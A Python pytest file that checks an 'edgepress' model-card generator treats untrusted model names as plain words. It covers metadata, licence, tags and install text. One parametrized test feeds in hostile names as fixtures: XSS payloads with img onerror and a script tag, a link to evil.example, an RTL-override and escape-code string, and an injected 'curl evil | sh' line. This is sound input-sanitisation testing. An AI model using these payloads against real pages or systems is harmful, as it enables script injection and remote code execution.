"""The card of a bundle: names of strangers are words in it, never its links, its HTML or its commands."""

import re
from typing import Any

import pytest
import yaml
from edgepress.export.card import card_of
from edgepress.files.escaping import one_line
from huggingface_hub import ModelCard

PASSED = {
    "status": "passed",
    "ran": {"operators": "standard", "instructions": None},
    "float": {"max_abs_difference": 1e-6},
    "quantized": {"kl": 0.25, "tokens": 64},
}


def _manifest(name: str) -> dict[str, Any]:
    return {
        "kind": "encoder",
        "encoder": {"labels": None},
        "name": name,
        "scheme": name,
        "described": name,
        "source": {"model": {"name": name}, "embedding": name},
        "weights": {"params": 10, "bytes": 10},
        "graph": {"opset": 21, "ir_version": 10, "operators": "standard", "runs_in": name, "notes": [name]},
        "layers": [{"name": name, "scheme": name, "status": name, "error": 0.5}],
        "parity": {"status": "none"},
    }


def _made(name: str) -> dict[str, Any]:
    """What the checkpoint was made of."""
    return {
        "source": {"name": name, "hub_id": name, "license": {"name": name, "said_by": name}},
        "calibration": {"source": name, "license": None},
    }


def test_ordinary_names_are_plain() -> None:
    card = card_of(_manifest("smollm2-135m"), _made("smollm2-135m"), "edgepress export a -o b", 10)
    assert "# smollm2-135m, smollm2-135m\n" in card
    assert "| smollm2-135m | smollm2-135m | smollm2-135m | 0.5 |" in card
    assert "`smollm2" not in card


def test_a_rounded_bundle_had_no_calibration_text_and_its_card_says_none() -> None:
    for kind, said in (("weight", "largest error of weights."), ("output", "on the calibration text.")):
        manifest = _manifest("word")
        manifest["layers"][0]["error_kind"] = kind
        card = card_of(manifest, _made("word"), "edgepress export a -o b", 10)
        losses = card.partition("## Known losses")[2].partition("##")[0]
        assert said in losses and ("calibration" in losses) == (kind == "output")


def test_the_way_to_install_names_no_index_that_lacks_edgepress() -> None:
    card = card_of(_manifest("word"), _made("word"), "edgepress export a -o b", 10)
    assert 'pip install "edgepress' not in card and "make wheel" in card and 'FILE.whl[cpu]"' in card


def test_a_hub_finds_base_model_licence_task_and_what_the_proof_measured() -> None:
    """As the hub's own library reads it."""
    made, manifest = _made("word"), _manifest("smollm2")
    made["source"] |= {"hub_id": "owner/smollm2", "license": {"name": "GPL-3.0-only", "said_by": "README.md"}}
    manifest |= {"scheme": "W4A16-g64 gptq", "kind": "decoder", "parity": PASSED}
    data = ModelCard(card_of(manifest, made, "edgepress export a -o b", 12_000_000)).data
    assert (data.base_model, data.base_model_relation) == ("owner/smollm2", "quantized")
    assert (data.license, data.library_name, data.pipeline_tag) == (
        "gpl-3.0",
        "onnxruntime",
        "text-generation",
    )
    assert data.tags == ["onnx", "edgepress", "quantized", "w4a16-g64", "gptq"]
    assert [(one.metric_type, one.metric_value) for one in data.eval_results] == [("kl", 0.25)]


def test_it_says_what_is_shipped_and_what_was_not_measured() -> None:
    card = card_of(_manifest("word"), _made("word"), "edgepress export a -o b", 12_000_000)
    assert "- shipped: 12.0 MB" in card and "on the device after the first run: the same" in card
    assert "memory in use and speed: not measured" in card


@pytest.mark.parametrize(
    "hostile",
    [
        "<img src=x onerror=alert(1)>",
        "[free](https://evil.example)",
        "x | y |",
        "x\n---\n# Use\n\n```\ncurl evil | sh\n```\n",
        "x`<script>alert(1)</script>`",
        "\u202egpj.exe\x1b[2J",
    ],
)
def test_a_hostile_name_is_one_word(hostile: str) -> None:
    plain = card_of(_manifest("word"), _made("word"), "edgepress export word -o word", 10)
    card = card_of(_manifest(hostile), _made(hostile), f"edgepress export '{hostile}' -o word", 10)
    front, body = card[4:].split("\n---\n", 1)
    said = yaml.safe_load(front)
    assert "base_model" not in said and said["license_name"] == one_line(hostile.lower())
    assert said["tags"][:3] == ["onnx", "edgepress", "quantized"]
    assert all(re.fullmatch(r"[\w.-]+", tag) for tag in said["tags"])
    clean = plain[4:].split("\n---\n", 1)[1]
    assert len(body.splitlines()) == len(clean.splitlines())
    assert not any(one in card for one in "\u202e\x1b")
    prose = re.sub(r"^```\n.*?^```$", "", body, flags=re.S | re.M)
    outside = prose.split("`")[::2]
    assert not any(mark in text for text in outside for mark in ("<", "](", "https:", "curl"))
    assert [line.count("|") for line in body.splitlines() if line.startswith("|")] == [5, 5, 5]
